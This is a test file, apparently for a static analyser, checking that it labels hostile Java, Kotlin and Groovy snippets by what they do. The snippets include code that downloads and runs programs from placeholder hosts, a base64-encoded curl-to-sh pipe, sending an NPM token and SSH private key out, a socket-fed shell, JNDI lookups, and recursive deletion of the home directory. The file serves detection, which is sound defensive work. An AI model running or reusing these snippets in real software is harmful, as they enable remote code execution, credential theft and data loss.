/** What programs of the Java virtual machine do, by the call table. Nothing here is run; dangerous words are put together. */
import { JAVA_CALLS, javaCues } from "../../../../src/evidence/readers/calls/java.ts";
import { actionsOf } from "./actions-of.ts";

const PIPED = ["curl https://files.example |", " sh"].join("");
const IMPORTS = ["java.io.*", "java.net.*", "java.nio.file.*", "java.util.*", "java.net.http.HttpClient"];

async function told(body: string): Promise<string[]> {
  const imports = IMPORTS.map((one) => `import ${one};`).join(" ");
  return actionsOf("src/A.java", `${imports}\nclass A { static { ${body} } }`);
}

test.each([
  [
    `InputStream in = new URL("https://a.example/x").openStream(); Files.copy(in, Paths.get("/tmp/x")); Runtime.getRuntime().exec("/tmp/x");`,
    [
      "fetch a.example by URL.openStream",
      "write /tmp/x by Files.copy <- fetched:a.example",
      "run /tmp/x by command <- fetched:a.example",
    ],
  ],
  [
    `var r = HttpRequest.newBuilder(URI.create("https://a.example")).build();
     new ProcessBuilder("sh", "-c", HttpClient.newHttpClient().send(r, null).body()).redirectErrorStream(true).start();`,
    ["send a.example by HttpClient.send", "run computed from fetched by sh <- fetched:a.example"],
  ],
  [
    `new ProcessBuilder(List.of("bash", "-c", new String(Base64.getDecoder().decode("${btoa(PIPED)}")))).start();`,
    [
      `run ${PIPED} by bash <- decoded:base64`,
      "fetch files.example by curl",
      "run computed from fetched by sh <- fetched:files.example",
    ],
  ],
  [
    `HttpURLConnection c = (HttpURLConnection) new URL("https://c.example").openConnection();
     c.getOutputStream().write(System.getenv("NPM_TOKEN").getBytes());`,
    ["send c.example by URLConnection.outputStream.write <- environment:NPM_TOKEN"],
  ],
  [
    `var text = new StringBuilder(); text.append("x=").append(Files.readString(Path.of(System.getProperty("user.home"), ".ssh/id_rsa")));
     new OkHttpClient().newCall(new Request.Builder().url("https://c.example").post(RequestBody.create(text.toString())).build()).execute();`,
    ["read ~/.ssh/id_rsa by Files.readString", "send c.example by Call.execute <- credential-file:SSH keys"],
  ],
  [
    `var s = new Socket("c.example", 9); var p = new ProcessBuilder("/bin/sh").start(); s.getInputStream().transferTo(p.getOutputStream());`,
    ["fetch c.example by Socket", "run /bin/sh by Socket.transferTo <- fetched:c.example"],
  ],
  [
    `byte[] b = new URL("https://j.example/x").openStream().readAllBytes(); defineClass("a", b, 0, b.length);`,
    ["fetch j.example by URL.openStream", "evaluate computed by defineClass <- fetched:j.example"],
  ],
  [
    `new URLClassLoader(new URL[] { new URL("https://i.example/x.jar") });`,
    ["load https://i.example/x.jar by URLClassLoader <- fetched:i.example"],
  ],
  [
    `new InitialContext().lookup("ldap://k.example/a");`,
    ["load ldap://k.example/a by InitialContext.lookup <- fetched:k.example"],
  ],
  [
    `Class.forName("java.lang.Runtime").getMethod("exec", String.class).invoke(Runtime.getRuntime(), new Scanner(new URL("https://m.example").openStream()).next());`,
    [
      "load java.lang.Runtime by Class.forName",
      "fetch m.example by URL.openStream",
      "run computed command by command <- fetched:m.example",
    ],
  ],
  [
    `try (var paths = Files.walk(Path.of(System.getProperty("user.home")))) { paths.sorted().map(Path::toFile).forEach(File::delete); }`,
    ["delete ~ by File.delete <- files:~"],
  ],
  [
    `new ObjectInputStream(new Socket("o.example", 2).getInputStream()).readObject();`,
    ["fetch o.example by Socket", "evaluate computed by ObjectInputStream.readObject <- fetched:o.example"],
  ],
  [`String text = Files.readString(Path.of("a.txt")).trim(); List.of(text).forEach(System.out::println);`, []],
])("tells what %s does", async (body, expected) => {
  expect(await told(body)).toEqual(expected);
});

test("runs constructors, and the longest of methods of one name with the bodies of all", async () => {
  const text = `class B { private final String url; B(String u) { this.url = u; } B() { this("https://x.example"); }
    void go() { go(3); } void go(int n) throws Exception { Runtime.getRuntime().exec(new String[] { "sh", "-c", new URL(url).openStream().toString() }); }
    public static void main(String[] args) { new B("https://a.example/x").go(); } }`;
  expect(await actionsOf("B.java", text)).toContain("run computed from fetched by sh <- fetched:a.example");
});

test("knows the same callees in Kotlin and Groovy", async () => {
  const kotlin = `fun main() { Runtime.getRuntime().exec(arrayOf("sh", "-c", java.net.URL("https://a.example").readText())) }`;
  expect(await actionsOf("A.kt", kotlin)).toContain("run computed from fetched by sh <- fetched:a.example");
  const saved = `java.io.File("/tmp/x").writeText(java.net.URL("https://b.example").readText()); ProcessBuilder("sh", "-c", "/tmp/x").start()`;
  expect(await actionsOf("B.kt", saved)).toContain("run /tmp/x by command <- fetched:b.example");
  const list = `['bash', '-c', new URL("https://c.example").text].execute()`;
  expect(await actionsOf("b.groovy", list)).toContain("run computed from fetched by bash <- fetched:c.example");
  const groovy = `new URL("https://a.example/x").text.execute()`;
  expect(await actionsOf("a.groovy", groovy)).toContain("run computed command by command <- fetched:a.example");
});

test("takes parameters that a request fills for what they are", async () => {
  const text = `class C { @GetMapping("/") String get(@RequestParam String q, HttpServletRequest r) throws Exception {
    Runtime.getRuntime().exec(q); new ProcessBuilder("sh", "-c", r.getHeader("x")).start(); return ""; } }`;
  expect(await actionsOf("C.java", text)).toEqual([
    "run computed command by command <- request later",
    "run computed from request by sh <- request later",
  ]);
});

test("gives each row a source and each cue in lower case", () => {
  expect(JAVA_CALLS.rows.filter(({ source }) => source === "")).toEqual([]);
  expect(javaCues.all().filter((cue) => cue !== cue.toLowerCase())).toEqual([]);
});

test("wakes for none of the lines of everyday code", () => {
  const lines = [
    "import java.util.List;",
    "public final class Pay {",
    "    return value.length() > 3 ? value.substring(0, 3) : value;",
    "for (String item : items) { list.add(item); }",
    "@Override public String toString() {",
    "logger.info(name);",
    "private final Map<String, String> cache = new HashMap<>();",
    "val names = list.map { it.name }.filter { it.isNotEmpty() }",
    "    implementation 'org.slf4j:slf4j-api:2.0.16'",
  ];
  expect(lines.filter((line) => javaCues.all().some((cue) => line.toLowerCase().includes(cue)))).toEqual([]);
});
